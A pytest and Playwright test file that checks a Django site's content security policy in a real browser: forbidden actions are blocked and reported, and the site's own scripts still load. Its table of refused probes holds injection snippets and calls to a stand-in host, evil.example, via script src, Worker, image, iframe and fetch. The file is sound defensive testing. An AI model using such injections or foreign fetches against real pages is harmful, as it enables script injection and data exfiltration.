"""The content security policy in a real browser: it stops what it forbids, noticed by the tests, and lets ours run."""

import pytest
from django.urls import reverse

from tests.browser.conftest import DESKTOP, Watch

# Each opens what a script in the page would use to run code or to carry data away.
REFUSED = {
    "HTML from text": ("require-trusted-types-for", "document.body.innerHTML = '<p>planted</p>'"),
    "a parser": ("require-trusted-types-for", "new DOMParser().parseFromString('<p>', 'text/html')"),
    "a script's text": ("require-trusted-types-for", "document.createElement('script').text = 'window.planted = 1'"),
    "a foreign script": ("require-trusted-types-for", "document.createElement('script').src = 'https://evil.example/'"),
    "a foreign worker": ("require-trusted-types-for", "new Worker('https://evil.example/x.js')"),
    "another policy": ("trusted-types", "trustedTypes.createPolicy('mine', {createHTML: (html) => html})"),
    "an inline style": ("style-src", "add('style', {textContent: 'p {}'})"),
    "a foreign image": ("img-src", "add('img', {src: 'https://evil.example/x.png'})"),
    "a frame": ("frame-src", "add('iframe', {src: 'https://evil.example/'})"),
    "a foreign address": ("connect-src", "fetch('https://evil.example/').catch(() => null)"),
}
TRY = """async () => {
  const add = (name, what) => document.body.append(Object.assign(document.createElement(name), what));
  try { await (%s) } catch (error) { } }"""


@pytest.fixture
def opened(context, site, transactional_db):
    """The sign-in page, with what the browser complained of."""
    page = context.new_page()
    page.set_viewport_size(DESKTOP)
    watch = Watch(page)
    page.goto(site + reverse("account_login"))
    return page, watch


def test_an_inline_script_in_a_page_does_not_run_and_is_noticed(opened, site):
    page, watch = opened
    assert watch.troubles == []
    address = site + reverse("account_login")
    whole = page.request.get(address)

    def plant(route):
        text = whole.text().replace("</main>", "<script>window.planted = 1</script></main>")
        packed = ("content-encoding", "content-length")
        route.fulfill(body=text, headers={name: v for name, v in whole.headers.items() if name not in packed})

    page.route(address, plant)
    page.goto(address)
    assert page.evaluate("window.planted ?? null") is None
    assert any("script-src-elem" in trouble for trouble in watch.troubles), watch.troubles


@pytest.mark.parametrize(("directive", "script"), REFUSED.values(), ids=REFUSED)
def test_the_browser_refuses_and_it_is_noticed(opened, directive, script):
    page, watch = opened
    page.evaluate(TRY % script)
    page.wait_for_timeout(100)
    assert page.evaluate("window.planted ?? null") is None
    assert any(f"violates {directive}" in trouble for trouble in watch.troubles), watch.troubles


def test_scripts_of_ours_may_load_others_of_ours(opened, site):
    """As a bundle does that is split into pieces, and a worker."""
    page, watch = opened
    own = page.evaluate("document.querySelector('script[src*=\"htmx\"]').src")
    loaded = page.evaluate(
        """(own) => new Promise((done) => {
          const script = document.createElement('script');
          script.src = own;
          script.onload = () => done('loaded');
          script.onerror = () => done('refused');
          document.head.append(script);
        })""",
        own,
    )
    assert loaded == "loaded"
    assert page.evaluate("(own) => import(own).then(() => 'loaded', (error) => String(error))", own) == "loaded"
    assert page.evaluate("(own) => { new Worker(own).terminate(); return 'made' }", own) == "made"
    assert watch.troubles == []
